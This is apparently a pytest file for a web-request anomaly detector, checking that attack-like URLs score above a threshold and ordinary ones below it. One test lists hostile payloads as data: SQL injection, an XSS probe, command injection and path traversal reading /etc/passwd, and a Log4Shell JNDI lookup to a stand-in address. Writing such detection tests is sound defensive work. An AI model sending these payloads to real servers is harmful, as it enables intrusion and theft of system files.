"""What is strange anywhere, whichever host gets it."""

import numpy as np
import pytest
from unseen_visits import features_of

from capture.core import CORE
from detection.unseen import prior
from detection.unseen.anywhere import CHARACTERS, Anywhere, relative
from detection.unseen.features import FEATURES
from detection.unseen.usual import AMOUNTS, LEVELS, Usual, from_text, levels_of
from traffic.features import unpacked

pytestmark = pytest.mark.skipif(not hasattr(CORE, "request_features"), reason="needs the core")

MODEL = Anywhere(from_text(prior.ANYWHERE), prior.LIMIT)
NAMES = [FEATURES[place].name for place in AMOUNTS]
PADDING = "&text=" + "ordinary+words+" * 30
INJECTION = "/?q=1%27%20or%20%271%27=%271%27--%20"


def score(target: str) -> float:
    return float(MODEL.surprises(levels_of(unpacked([features_of(target)]))).sum())


def levels(**found: int) -> "np.ndarray[tuple[int, ...], np.dtype[np.uint8]]":
    row = np.zeros((1, len(AMOUNTS)), np.uint8)
    for name, level in found.items():
        row[0, NAMES.index(name)] = level
    return row


@pytest.mark.parametrize(
    "target",
    [
        INJECTION,
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?host=;cat%20/etc/passwd",
        "/?x=%24%7Bjndi:ldap://203.0.113.7/a%7D",
        "/?page=../../../../etc/passwd",
    ],
)
def test_what_breaks_out_of_a_value_is_strange(target: str) -> None:
    assert score(target) >= prior.LIMIT


@pytest.mark.parametrize(
    "target",
    [
        "/",
        "/blog/2026/11/a-long-title-of-a-post?page=2&sort=date",
        "/wiki/thumb/Girl_%28cropped%29.jpg/72px-Girl_%28cropped%29.jpg",
        "/search?q=O%27Neill+%26+Sons",
        "/search?q=Tom+%26+Jerry+(1940)",
        "/search?q=select+a+seat+from+the+list",
        "/track?e=" + "eyJhIjoxfQ" * 40,
        "/" + "segment/" * 40,
    ],
)
def test_what_people_ask_for_is_not(target: str) -> None:
    assert score(target) < prior.LIMIT


def test_the_same_counts_for_less_in_a_long_request() -> None:
    assert score(INJECTION) > score(INJECTION + PADDING)
    short, long = levels(quotes=4, calls=2), levels(quotes=4, calls=2, query_length=9)
    for place, lower in (("quotes", 3), ("calls", 1)):
        assert relative(short)[0, NAMES.index(place)] - relative(long)[0, NAMES.index(place)] == lower


def test_no_level_falls_below_zero() -> None:
    assert relative(levels(quotes=1, tags=1, body_length=15)).tolist() == [[0] * len(AMOUNTS)]


def test_of_characters_the_most_surprising_counts() -> None:
    found = MODEL.surprises(levels(**dict.fromkeys(CHARACTERS, 3)))
    assert np.count_nonzero(found) == 1
    assert found.max() == max(float(MODEL.surprises(levels(**{name: 3})).sum()) for name in CHARACTERS)


def test_ordinary_amounts_and_header_fields_say_nothing() -> None:
    usual = Usual(np.full((len(AMOUNTS), LEVELS), 2.0**-20, np.float32))
    found = Anywhere(usual, 1.0).surprises(levels(path_length=12, cookies=9, field_words=5, path_words=3))
    assert not found.any()
